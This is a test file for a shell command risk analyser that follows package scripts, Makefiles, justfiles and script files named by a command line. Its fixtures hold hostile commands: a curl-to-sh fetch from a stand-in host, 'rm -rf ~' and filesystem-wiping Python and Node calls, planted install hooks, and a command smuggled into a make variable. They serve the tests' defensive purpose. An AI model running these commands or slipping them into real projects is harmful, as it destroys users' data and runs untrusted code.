/** Scripts that a line names are read one step far, and rated with it. */
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { createRiskAnalyser } from '#core/risk/create-risk-analyser.ts';
import { findJudgedScripts, findScripts } from '#core/run/find-scripts.ts';
import { assessCommand } from '#core/run/assess-command.ts';
import { followScripts } from '#core/run/scripts/follow-scripts.ts';
import { createDisk } from '../../../../main/node/disk/create-disk.ts';
import { createLinePlaces } from '../../../../main/node/disk/create-line-places.ts';
import { createPatchFiles } from '../../../../main/node/disk/create-patch-files.ts';
import { reader } from '../request/reader.ts';

const root = mkdtempSync(join(tmpdir(), 'countersign-scripts-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
const project = join(root, 'p');
beforeEach(() => {
  rmSync(project, { recursive: true, force: true });
  mkdirSync(project);
});

const ports = { files: createPatchFiles(), reader, places: createLinePlaces({ env: {} }) };
const assessing = { risk: createRiskAnalyser(reader), homeDir: '/home/u' };

const put = (name: string, text: string): void => {
  mkdirSync(dirname(join(project, name)), { recursive: true });
  writeFileSync(join(project, name), text);
};
const scripts = (all: Record<string, string>): void => put('package.json', JSON.stringify({ scripts: all }));

async function commandOf(line: string) {
  const argv: [string, ...string[]] = ['/bin/bash', '-c', line];
  const command = { argv, parsed: reader.read(argv), cwd: project, projectRoot: project, env: {}, executable: null };
  return { ...command, followed: await followScripts(command, ports) };
}
const levelOf = async (line: string): Promise<string> => assessCommand(await commandOf(line), assessing).level;

const fetched = 'curl -s https://x.example/i.sh | sh';
const makefile = `CC = cc
.PHONY: all test clean
all: build
build: src/a.c
\t@$(CC) -o a $<
test: prepare
\t./run $$HOME
prepare:
\t${fetched}
clean: ; rm -rf ~
`;

const packed = { 'package.json': '{"workspaces":["packages/*"],"scripts":{"build":"echo all"}}' };
const home = { 'packages/a/package.json': '{}', 'packages/b/package.json': '{"scripts":{"build":"rm -rf ~"}}' };
const mild = { 'packages/a/package.json': '{"scripts":{"build":"tsc -b"}}' };

/** Calls that run a task in every package of a work space. */
const everywhere: [string, Record<string, string>, string][] = [
  ...[
    'npm run build -ws',
    'npm run build --workspaces --if-present',
    'pnpm -r build',
    "pnpm --filter './packages/*' build",
    'yarn workspaces run build',
    'yarn workspaces foreach -A run build',
    "bun run --filter '*' build",
    'turbo run build',
    'npx turbo run lint build',
    'lerna run build',
    'nx run-many -t build',
    'nx run-many --target=build --all',
    'nx affected -t lint,build',
    'nx run b:build',
    'nx build b',
    'npm -ws run build',
    'npm run -ws build',
    'npm run build -w b -w a',
    'npm run build --workspace=packages/b --workspace=packages/a',
    'pnpm -r run build',
    'pnpm run -r build',
    'pnpm -r --parallel build',
    'pnpm recursive run build',
    'pnpm m run build',
    'pnpm --filter b --filter a build',
    'pnpm --filter b... build',
    'pnpm -F ./packages/b build',
    'yarn workspaces foreach -pt run build',
    'yarn workspaces foreach --all --exclude x run build',
    'bun run --filter b build',
  ].map((line): [string, Record<string, string>, string] => [line, { ...packed, ...home }, 'critical']),
  [
    'pnpm -r build',
    {
      'pnpm-workspace.yaml': "packages:\n  - 'libs/**'\n",
      'libs/x/y/package.json': '{"scripts":{"build":"rm -rf ~"}}',
    },
    'critical',
  ],
  [
    'nx run-many -t build',
    {
      'libs/x/project.json':
        '{"targets":{"build":{"executor":"nx:run-commands","options":{"commands":["echo",{"command":"rm -rf ~"}]}}}}',
    },
    'critical',
  ],
  ['nx build x', { 'apps/x/project.json': '{"targets":{"build":{"command":"rm -rf ~"}}}' }, 'critical'],
  ['npm run build -ws', { ...packed, ...mild }, 'low'],
  ['npm run build --workspaces=false', { ...packed, ...home }, 'low'],
  ['turbo run build', { ...packed, ...mild }, 'low'],
];

/** Line, files, level. */
const rated: [string, Record<string, string>, string][] = [
  ...everywhere,
  ['npm test', { 'package.json': `{"scripts":{"test":"${fetched}"}}` }, 'high'],
  ['npm t', { 'package.json': `{"scripts":{"test":"${fetched}"}}` }, 'high'],
  ['npm run lint', { 'package.json': `{"scripts":{"prelint":"${fetched}","lint":"eslint ."}}` }, 'high'],
  ['cd web && yarn lint', { 'web/package.json': `{"scripts":{"lint":"${fetched}"}}` }, 'high'],
  ['pnpm run check', { 'package.json': '{"scripts":{"check":"rm -rf ~"}}' }, 'critical'],
  ['npm test', { 'package.json': '{"scripts":{"test":"vitest run && eslint ."}}' }, 'low'],
  ['npm test', { 'package.json': '{"scripts":{"test":"rm -rf dist && tsc -b"}}' }, 'low'],
  ['npm test', { 'package.json': 'no json' }, 'low'],
  ['make', { Makefile: makefile }, 'low'],
  ['make test', { Makefile: makefile }, 'high'],
  ['make clean', { Makefile: makefile }, 'critical'],
  ['make -n test', { Makefile: makefile }, 'low'],
  ['make test', { Makefile: 'test:\n\tgo test ./...\n' }, 'low'],
  ['just build', { justfile: `build target='x':\n  ${fetched}\n` }, 'high'],
  ['bash check.sh', { 'check.sh': `#!/bin/sh\nset -e\n${fetched}\n` }, 'high'],
  ['./check.sh', { 'check.sh': `#!/usr/bin/env bash\n${fetched}\n` }, 'high'],
  ['. ./check.sh', { 'check.sh': 'rm -rf ~\n' }, 'critical'],
  ['python3 x.py', { 'x.py': 'import shutil\nshutil.rmtree("/")\n' }, 'critical'],
  ['npm --loglevel silent test', { 'package.json': `{"scripts":{"test":"${fetched}"}}` }, 'high'],
  ['npm --prefix web run lint', { 'web/package.json': `{"scripts":{"lint":"${fetched}"}}` }, 'high'],
  ['npm ci', { 'package.json': '{"scripts":{"postinstall":"rm -rf ~"}}' }, 'critical'],
  ['npm ci --ignore-scripts', { 'package.json': '{"scripts":{"postinstall":"rm -rf ~"}}' }, 'medium'],
  ['yarn', { 'package.json': '{"scripts":{"prepare":"rm -rf ~"}}' }, 'critical'],
  ['npm pack', { 'package.json': '{"scripts":{"prepack":"rm -rf ~"}}' }, 'critical'],
  [
    'npm run build -w @a/b',
    {
      'package.json': '{"workspaces":["packages/*"]}',
      'packages/b/package.json': '{"name":"@a/b","scripts":{"build":"rm -rf ~"}}',
    },
    'critical',
  ],
  [
    'pnpm --filter b build',
    {
      'package.json': '{}',
      'pnpm-workspace.yaml': "packages:\n  - 'libs/*'\n",
      'libs/b/package.json': '{"scripts":{"build":"rm -rf ~"}}',
    },
    'critical',
  ],
  [
    'yarn workspace b build',
    { 'package.json': '{"workspaces":{"packages":["b"]}}', 'b/package.json': '{"scripts":{"build":"rm -rf ~"}}' },
    'critical',
  ],
  [
    'cd a && npm test; cd ../b',
    { 'a/package.json': '{"scripts":{"test":"rm -rf ~"}}', 'b/package.json': '{"scripts":{"test":"ls"}}' },
    'critical',
  ],
  ['node --run lint', { 'package.json': '{"scripts":{"lint":"rm -rf ~"}}' }, 'critical'],
  ['deno task lint', { 'deno.json': '{"tasks":{"lint":{"command":"rm -rf ~"}}}' }, 'critical'],
  ['make -C sub', { 'sub/Makefile': 'all:\n\trm -rf ~\n' }, 'critical'],
  ['make -f own.mk x', { 'own.mk': 'x:\n\trm -rf ~\n' }, 'critical'],
  ['MAKEFILES=pre.mk make', { Makefile: 'all:\n\tls\n', 'pre.mk': 'X := $(shell rm -rf ~)\n' }, 'critical'],
  ['export MAKEFILES=pre.mk; make', { Makefile: 'all:\n\tls\n', 'pre.mk': 'X := $(shell rm -rf ~)\n' }, 'critical'],
  ['env MAKEFILES=pre.mk make', { Makefile: 'all:\n\tls\n', 'pre.mk': 'X := $(shell rm -rf ~)\n' }, 'critical'],
  ['make x', { Makefile: '-include rules.mk\n', 'rules.mk': 'x:\n\trm -rf ~\n' }, 'critical'],
  ['make -n', { Makefile: 'X := $(shell rm -rf ~)\nall:\n\ttrue\n' }, 'critical'],
  ['make all', { Makefile: 'X != rm -rf ~\nall:\n\ttrue\n' }, 'critical'],
  ['make a.o', { Makefile: '%.o: %.c\n\trm -rf ~\n' }, 'critical'],
  ['make out', { Makefile: 'OUT = out\n$(OUT): x\n\trm -rf ~\n' }, 'critical'],
  [`make --eval='all: ; rm -rf ~'`, {}, 'critical'],
  ['make "CC=rm -rf ~;" a', { Makefile: 'a:\n\t$(CC) -o a a.c\n' }, 'critical'],
  ['just -f own.just x', { 'own.just': 'x:\n  rm -rf ~\n' }, 'critical'],
  ['just a b', { justfile: 'a:\n  ls\nb:\n  rm -rf ~\n' }, 'critical'],
  ['just a', { justfile: "import 'b.just'\n", 'b.just': 'a:\n  rm -rf ~\n' }, 'critical'],
  ['just a', { justfile: 'x := `rm -rf ~`\na:\n  ls\n' }, 'critical'],
  ['just a', { justfile: 'a: && b\n  ls\nb:\n  rm -rf ~\n' }, 'critical'],
  ['./run', { run: '#!/usr/bin/env -S bash -eu\nrm -rf ~\n' }, 'critical'],
  ['./run', { run: '#!/usr/bin/perl -w\nsystem("rm -rf ~");\n' }, 'critical'],
  ['bash --norc -o pipefail x.sh', { 'x.sh': 'rm -rf ~\n' }, 'critical'],
  ['bash < x.sh', { 'x.sh': 'rm -rf ~\n' }, 'critical'],
  ['set -a; . .env', { '.env': 'A=1\nrm -rf ~\n' }, 'critical'],
  ['python -B -m pkg', { 'pkg/__main__.py': 'import shutil\nshutil.rmtree("/")\n' }, 'critical'],
  ['python3 -m pkg.tool', { 'pkg/tool.py': 'import shutil\nshutil.rmtree("/")\n' }, 'critical'],
  ['node --no-warnings x.mjs', { 'x.mjs': 'import fs from "fs";\nfs.rmSync("/", { recursive: true })\n' }, 'critical'],
  [
    'node -r ./pre.js ok.js',
    { 'pre.js': 'require("fs").rmSync("/", { recursive: true })\n', 'ok.js': '1' },
    'critical',
  ],
  ['node x', { 'x.js': 'require("fs").rmSync("/", { recursive: true })\n' }, 'critical'],
  ['uv run x.py', { 'x.py': 'import shutil\nshutil.rmtree("/")\n' }, 'critical'],
  ['perl x.pl', { 'x.pl': 'system("rm -rf ~");\n' }, 'critical'],
  ['ruby x.rb', { 'x.rb': 'system("rm -rf ~")\n' }, 'critical'],
  ['node x.js', { 'x.js': 'require("fs").rmSync("/", { recursive: true })\n' }, 'critical'],
];

describe('a line is as risky as what it names', () => {
  test.each(rated)('%s with %j', async (line, files, level) => {
    for (const [name, text] of Object.entries(files)) put(name, text);
    expect(await levelOf(line)).toBe(level);
  });
});

test('every reason of a script stands at the words that name it', async () => {
  scripts({ test: fetched });
  const command = await commandOf('ls && npm test');
  const risk = assessCommand(command, assessing);
  const grave = risk.reasons.filter(({ level }) => level === 'high' || level === 'critical');
  expect(grave.length).toBeGreaterThan(0);
  for (const { span } of risk.reasons) expect(span[1]).toBeLessThanOrEqual(command.parsed.text.length);
  expect(grave.map(({ span }) => command.parsed.text.slice(...span))).toContain('npm test');
});

test('a script that changes after it was judged is another one at the last look', async () => {
  scripts({ test: 'vitest run' });
  const disk = createDisk({});
  const command = await commandOf('npm test');
  const shown = await findJudgedScripts(command, disk);
  expect(shown.map(({ path }) => path)).toContain(join(project, 'package.json'));
  expect(await findScripts(command, disk)).toEqual(shown);
  scripts({ test: fetched });
  // Also when it changes between the reading and the card: what was judged is what is shown.
  expect(await findJudgedScripts(command, disk)).toEqual(shown);
  expect(await findScripts(command, disk)).not.toEqual(shown);
  rmSync(join(project, 'package.json'));
  expect(await findScripts(command, disk)).not.toEqual(shown);
});

test('what cannot be read is judged by its name, and bound all the same', async () => {
  mkdirSync(join(project, 'd.sh'));
  put('e.sh', 'a\0b');
  put('f.sh', 'x\n'.repeat(200_000));
  const command = await commandOf('bash d.sh; bash e.sh; bash f.sh');
  expect(command.followed.map(({ path, parsed }) => [path, parsed.segments.length])).toEqual([
    [join(project, 'e.sh'), 0],
    [join(project, 'f.sh'), 0],
  ]);
});

test('a program that is named by its whole path is read as well', async () => {
  put('x.sh', 'rm -rf ~\n');
  expect(await levelOf(join(project, 'x.sh'))).toBe('critical');
});

/** A line, the files that are there when it is asked about, and what is put there before it starts. */
const swaps: [string, Record<string, string>, Record<string, string>][] = [
  ...['npm run b -ws', 'npm run b -w a -w c', 'pnpm -r run b', 'yarn workspaces foreach -A run b'].map(
    (line): [string, Record<string, string>, Record<string, string>] => [
      line,
      { 'package.json': '{"workspaces":["p/*"]}', 'p/a/package.json': '{"scripts":{"b":"x"}}' },
      { 'p/a/package.json': '{"scripts":{"b":"rm -rf ~"}}' },
    ],
  ),
  ['npm test', {}, { 'package.json': '{"scripts":{"test":"rm -rf ~"}}' }],
  ['npm run b -w b', { 'package.json': '{"workspaces":["p/*"]}' }, { 'p/b/package.json': '{"scripts":{"b":"x"}}' }],
  ['make', { Makefile: 'all:\n\tls\n' }, { GNUmakefile: 'all:\n\trm -rf ~\n' }],
  ['make', { Makefile: '-include a.mk\nall:\n\tls\n' }, { 'a.mk': 'all:\n\trm -rf ~\n' }],
  ['make', { Makefile: 'include a.mk\nall:\n\tls\n', 'a.mk': 'X=1\n' }, { 'a.mk': 'X:=$(shell y)\n' }],
  ['make -C sub', { 'sub/Makefile': 'all:\n\tls\n' }, { 'sub/Makefile': 'all:\n\trm -rf ~\n' }],
  ['just', { justfile: "import? 'b.just'\na:\n  ls\n" }, { 'b.just': 'a:\n  x\n' }],
  ['python -m pkg', {}, { 'pkg.py': 'x' }],
  ['python -m json.tool', {}, { 'json/tool.py': 'x' }],
  ['node a', {}, { 'a.js': 'x' }],
  ['./x.sh', {}, { 'x.sh': 'x' }],
  ['. .env', {}, { '.env': 'x' }],
  ['bash < x', { x: 'ls' }, { x: 'rm -rf ~' }],
  ['python3 - < x.py', { 'x.py': '1' }, { 'x.py': '2' }],
  [
    `npm test; ${Array.from({ length: 80 }, (_, at) => `./f${at}`).join('; ')}`,
    { 'package.json': '{}' },
    { 'package.json': '{"scripts":{"test":"x"}}' },
  ],
];

/** Its text is what another command prints, so it is not read: the files that the line names are bound. */
const fed: typeof swaps = [
  ['bash <(cat x)', { x: 'ls' }, { x: 'rm -rf ~' }],
  ['cat x | bash', { x: 'ls' }, { x: 'rm -rf ~' }],
  ['npx tool', { 'node_modules/.bin/tool': 'a' }, { 'node_modules/.bin/tool': 'b' }],
  ['cd sub && pnpm exec tool', {}, { 'node_modules/.bin/tool': 'b' }],
  ['uv run pytest', {}, { '.venv/bin/pytest': 'b' }],
  ['eval "$(cat x)"', { x: 'ls' }, { x: 'rm -rf ~' }],
  ['bash -c "$(cat x)"', { x: 'ls' }, { x: 'rm -rf ~' }],
  ['source <(sed s/a/b/ x)', { x: 'ls' }, { x: 'rm -rf ~' }],
];

test.each([...swaps, ...fed])(
  '%s is another command when what it runs changes after the question',
  async (line, before, after) => {
    for (const [name, text] of Object.entries(before)) put(name, text);
    const disk = createDisk({});
    const command = await commandOf(line);
    const shown = await findJudgedScripts(command, disk);
    expect(await findScripts(command, disk)).toEqual(shown);
    for (const [name, text] of Object.entries(after)) {
      put(name, text);
      chmodSync(join(project, name), 0o755);
    }
    expect(await findScripts(command, disk)).not.toEqual(shown);
  },
);

test.each(swaps)(
  '%s is not called judged for what appears between the reading and the card',
  async (line, before, after) => {
    for (const [name, text] of Object.entries(before)) put(name, text);
    const disk = createDisk({});
    const command = await commandOf(line);
    for (const [name, text] of Object.entries(after)) put(name, text);
    expect(await findJudgedScripts(command, disk)).not.toEqual(await findScripts(command, disk));
  },
);
